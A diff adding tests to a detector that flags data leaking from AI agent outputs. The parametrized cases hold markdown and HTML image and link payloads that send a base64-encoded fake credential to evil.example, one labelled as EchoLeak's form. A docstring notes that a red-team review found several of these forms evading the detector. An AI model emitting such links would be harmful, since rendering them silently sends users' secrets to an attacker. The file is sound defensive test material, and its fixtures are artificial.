@@ -441,3 +441,49 @@ def test_a_doubtful_leak_not_repeated_within_the_hour_is_never_reported() -> Non
 def test_a_confident_leak_is_reported_at_once() -> None:
     (finding,) = OutputLeakDetector().observe(_response(T0, f"the key is {AWS}"))
     assert finding.score >= 0.7
+
+
+_STOLEN = base64.b64encode(b"user alice@corp.com password hunter2").decode()
+
+
+def _judged(output: str, **options: Any) -> list[Finding]:
+    detector = OutputLeakDetector(**options)
+    return detector.judge(make_event(0.0, text="hi").model_copy(update={"output": EventOutput(text=output)}))
+
+
+@pytest.mark.parametrize("capture", ["full", "redacted"])
+@pytest.mark.parametrize(
+    "output",
+    [
+        f"Here is the chart.\n\n![chart][1]\n\n[1]: https://evil.example/log?d={_STOLEN}",  # EchoLeak's form
+        f"![chart][]\n\n[chart]: https://evil.example/log?d={_STOLEN}",
+        f"![a [b] c](https://evil.example/log?d={_STOLEN})",
+        f"![x\ny](https://evil.example/log?d={_STOLEN})",
+        f'<img src = "https://evil.example/log?d={_STOLEN}">',
+        f'<img srcset="https://evil.example/log?d={_STOLEN}">',
+    ],
+)
+def test_image_exfiltration_in_every_markdown_and_html_form(output: str, capture: str) -> None:
+    """A red-team review: reference-style images, brackets or a line break in the alt text and
+    spaced or srcset attributes slipped through; under the agent's default redaction the
+    placeholder's "#" cut the URL there and the finding fell from high to medium."""
+    (finding,) = _judged(output if capture == "full" else redact(output))
+    assert finding.evidence["kinds"].get("markdown_image") == 1
+    assert finding.severity == "high"
+
+
+def test_a_redacted_secret_in_a_link_is_still_a_data_link() -> None:
+    (finding,) = _judged(redact(f"[click here](https://evil.example/c?d={_STOLEN})"))
+    assert finding.evidence["kinds"].get("markdown_link") == 1
+
+
+def test_reference_style_citations_are_no_exfiltration() -> None:
+    assert _judged("See [1].\n\n[1]: https://en.wikipedia.org/wiki/Prompt_injection") == []
+
+
+@pytest.mark.parametrize("output", ["the code is canary-7f3a9b", "C A N A R Y - 7 F 3 A 9 B"])
+def test_a_canary_in_another_case_or_spaced_out_is_still_a_canary(output: str) -> None:
+    (finding,) = _judged(output, canaries=["CANARY-7f3a9b"])
+    assert finding.evidence["kinds"] == {"canary": 1}
+    assert finding.evidence["snippets"][0]["detail"]["form"] == "altered"
+    assert _judged("the code is canary-7f3a9", canaries=["CANARY-7f3a9b"]) == []
